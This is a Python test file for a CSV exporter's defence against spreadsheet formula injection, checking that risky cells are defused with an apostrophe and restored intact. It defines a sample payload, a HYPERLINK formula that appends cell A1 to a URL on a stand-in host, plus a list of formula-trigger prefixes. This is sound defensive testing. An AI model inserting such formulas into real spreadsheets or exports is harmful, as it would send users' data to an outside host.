"""The record as CSV: every text comes back as it was, and none of them is a formula."""

import csv
import io
import json
import re
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from playbooks.exports import render_export
from playbooks.exports.as_csv import HEADER, as_csv
from playbooks.exports.plain_cells import defused, restored
from tests.unit.exports.full import full_story
from tests.unit.exports.goldens import FOLDER, same_as
from tests.unit.exports.hostile import HOSTILE, hostile_story
from tests.unit.stories import Story, closed_story

PAGE = Path(__file__).parents[3] / "docs" / "reference" / "exports.md"
FORMULA = '=HYPERLINK("http://e.example/?"&A1,"click")'


def rows(story: Story) -> list[dict[str, str]]:
    """As a data tool reads the bytes."""
    text = render_export("csv", story.entries)[1].decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline=""), strict=True))


def test_a_whole_run_looks_like_this() -> None:
    same_as(FOLDER / "closed.csv", as_csv(closed_story().entries))


def test_everything_that_can_happen_looks_like_this() -> None:
    same_as(FOLDER / "full.csv", as_csv(full_story().entries))


def test_the_documented_header_is_the_real_one() -> None:
    section = PAGE.read_text(encoding="utf-8").split("## csv")[1].split("\n## ")[0]
    assert tuple(re.findall(r"^\| `(\w+)` \|", section, re.MULTILINE)) == HEADER == tuple(rows(closed_story())[0])


def test_every_entry_is_a_row_with_its_texts() -> None:
    made, entries = rows(full_story()), full_story().entries
    assert [int(row["seq"]) for row in made] == [entry.seq for entry in entries]
    assert [restored(row["text"]) for row in made] == [entry.text for entry in entries]
    assert [json.loads(row["data"]) for row in made] == [entry.data for entry in entries]
    assert [(row["prev_hash"], row["hash"]) for row in made] == [(e.prev_hash, e.hash) for e in entries]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_texts_come_back(text: str) -> None:
    entries = hostile_story(text).entries
    assert [restored(row["text"]) for row in rows(hostile_story(text))] == [entry.text for entry in entries]
    assert [restored(row["source"]) for row in rows(hostile_story(text))] == [entry.source for entry in entries]


def test_moments_are_utc_in_a_form_that_spreadsheets_read() -> None:
    assert rows(Story().open())[0]["at_utc"] == "2026-11-21 12:00:00.000"


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        (FORMULA, "'" + FORMULA),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("＝1", "'＝1"),
        ("\u22121", "'\u22121"),
        ("  =1", "  '=1"),
        ("\u200b\x01\ufeff=1", "\u200b\x01\ufeff'=1"),
        ("\tx", "'\tx"),
        ("\r=1", "'\r'=1"),
        ("a;=1", "a;'=1"),
        ("a\n- b", "a\n'- b"),
        ("'=1", "''=1"),
        ("1 - 2 = @me", "1 - 2 = @me"),
        ("it's", "it's"),
    ],
)
def test_what_a_spreadsheet_would_run_is_defused_and_comes_back(text: str, cell: str) -> None:
    assert defused(text) == cell
    assert restored(cell) == text


def test_other_separators_and_rows_find_no_formula_either() -> None:
    story = Story().open(f"x;{FORMULA}\n{FORMULA}\t{FORMULA}")
    pieces = re.split(r'[,;\t\r\n"]', as_csv(story.entries))
    assert not [piece for piece in pieces if re.match(r"\s*[=+@-]", piece)]


@given(st.text(st.characters(exclude_categories=("Cs",))) | st.text("=+-@'\t\r\n; \u200bab＝", max_size=30))
def test_every_text_comes_back(text: str) -> None:
    assert restored(defused(text)) == text
    begun = [
        line.lstrip("\u200b \x1f") for line in re.split(r"[\t\n\v\f\r\x1c\x1d\x1e\x85\u2028\u2029;]", defused(text))
    ]
    assert not [line for line in begun if line[:1] and line[:1] in "=+-@＝"]


def test_a_long_run_of_blanks_takes_no_longer_than_other_text() -> None:
    assert defused("\n" * 40_000 + "=") == "\n" * 40_000 + "'="
